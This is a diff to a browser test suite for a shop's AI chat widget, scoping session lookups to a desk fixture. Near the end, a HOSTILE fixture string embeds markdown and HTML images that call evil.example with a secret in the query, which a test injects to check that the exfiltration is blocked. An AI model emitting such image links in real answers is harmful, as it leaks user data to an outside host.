@@ -4,9 +4,8 @@ import json
 
 import pytest
 
-from agents.models.sessions import Message, Session
+from agents.models.sessions import Message
 from config.tests.browsing import axe_violations
-from widget.models import WidgetSession
 from widget.tests.browser import Shop, page_of, snippet
 
 pytestmark = pytest.mark.browser
@@ -22,8 +21,9 @@ def chat(shop, desk):
     return shop
 
 
-def questions() -> list[str]:
-    return list(Message.objects.filter(role="user").values_list("content", flat=True))
+def questions(desk) -> list[str]:
+    asked = Message.objects.filter(session__agent_ref=desk, role="user")
+    return list(asked.values_list("content", flat=True))
 
 
 def test_an_answer_comes_with_its_source(chat):
@@ -50,9 +50,9 @@ def test_what_it_does_not_know_it_says_like_any_other_answer(chat):
 def test_the_conversation_is_kept_on_our_side(chat, desk):
     chat.ask(QUESTION)
     chat.answers(2)
-    conversation = Session.objects.get(agent_ref=desk)
+    conversation = desk.sessions.get()
     assert conversation.total_messages == 2
-    assert conversation.visitor_id == WidgetSession.objects.get().visitor_id
+    assert conversation.visitor_id == desk.widget_sessions.get().visitor_id
 
 
 def test_the_answer_is_seen_before_it_is_finished_and_read_out_once(chat):
@@ -77,13 +77,13 @@ def test_a_suggestion_asks_itself(chat):
     assert not chat.panel.locator("#suggestions").is_visible()
 
 
-def test_a_line_break_is_written_with_shift(chat):
+def test_a_line_break_is_written_with_shift(chat, desk):
     chat.panel.fill("#input", "One")
     chat.panel.press("#input", "Shift+Enter")
     chat.panel.type("#input", "two")
     chat.panel.press("#input", "Enter")
     chat.answers(2)
-    assert questions() == ["One\ntwo"]
+    assert questions(desk) == ["One\ntwo"]
 
 
 def test_too_long_a_question_stays_in_the_field(chat):
@@ -95,7 +95,7 @@ def test_too_long_a_question_stays_in_the_field(chat):
     assert chat.panel.locator(".me").count() == 0
 
 
-def test_coming_back_goes_on_where_it_was(chat):
+def test_coming_back_goes_on_where_it_was(chat, desk):
     chat.ask(QUESTION)
     chat.answers(2)
     chat.page.reload()
@@ -104,10 +104,10 @@ def test_coming_back_goes_on_where_it_was(chat):
     assert chat.panel.locator(".me").inner_text().endswith(QUESTION)
     chat.ask("When does my order leave?")
     assert "14:00" in chat.answers(3)[2]
-    assert Session.objects.count() == 1
+    assert desk.sessions.count() == 1
 
 
-def test_a_new_conversation_begins_empty(chat):
+def test_a_new_conversation_begins_empty(chat, desk):
     chat.ask(QUESTION)
     chat.answers(2)
     chat.panel.get_by_role("button", name="New conversation").click()
@@ -116,13 +116,13 @@ def test_a_new_conversation_begins_empty(chat):
     assert len(chat.answers(1)) == 1
     chat.ask("When does my order leave?")
     chat.answers(2)
-    assert set(Session.objects.values_list("status", flat=True)) == {
+    assert set(desk.sessions.values_list("status", flat=True)) == {
         "active",
         "completed",
     }
 
 
-def test_a_question_whose_receipt_was_lost_is_asked_once(chat):
+def test_a_question_whose_receipt_was_lost_is_asked_once(chat, desk):
     def lose_the_first(route):
         route.fetch()
         route.abort()
@@ -130,7 +130,7 @@ def test_a_question_whose_receipt_was_lost_is_asked_once(chat):
     chat.page.route("**/messages", lose_the_first, times=1)
     chat.ask(QUESTION)
     assert "three to four working days" in chat.answers(2)[1]
-    assert questions() == [QUESTION]
+    assert questions(desk) == [QUESTION]
 
 
 def test_a_refused_question_can_be_sent_again(chat):
@@ -179,17 +179,17 @@ def test_an_expired_session_is_renewed_without_a_word(chat):
     assert any(url.endswith("/sessions/refresh") for url in chat.ours())
 
 
-def test_a_session_lost_for_good_is_followed_by_a_new_one(chat):
+def test_a_session_lost_for_good_is_followed_by_a_new_one(chat, desk):
     chat.ask(QUESTION)
     chat.answers(2)
-    WidgetSession.objects.get().revoke()
+    desk.widget_sessions.get().revoke()
     chat.ask("When does my order leave?")
     assert "14:00" in chat.answers(3)[2]
     assert "A new one begins here" in chat.panel.locator(".note").inner_text()
-    assert WidgetSession.objects.count() == 2
+    assert desk.widget_sessions.count() == 2
 
 
-def test_two_tabs_share_a_conversation_until_one_begins_anew(chat, host):
+def test_two_tabs_share_a_conversation_until_one_begins_anew(chat, host, desk):
     chat.ask(QUESTION)
     chat.answers(2)
     other = Shop(chat.context, host, chat.address)
@@ -203,7 +203,7 @@ def test_two_tabs_share_a_conversation_until_one_begins_anew(chat, host):
     chat.ask("When does my order leave?")
     assert "14:00" in chat.answers(3)[2]
     assert "A new one begins here" in chat.panel.locator(".note").inner_text()
-    assert Session.objects.count() == 2
+    assert desk.sessions.count() == 2
 
 
 def test_without_cookies_the_chat_works(chat):
@@ -235,10 +235,10 @@ HOSTILE = """![pixel](https://evil.example/?q=secret) <img src=https://evil.exam
 """
 
 
-def test_a_hostile_answer_reaches_nobody(chat):
+def test_a_hostile_answer_reaches_nobody(chat, desk):
     chat.ask(QUESTION)
     chat.answers(2)
-    Session.objects.get().add_message("assistant", HOSTILE)
+    desk.sessions.get().add_message("assistant", HOSTILE)
     chat.page.reload()
     panel = chat.open()
     chat.answers(3)
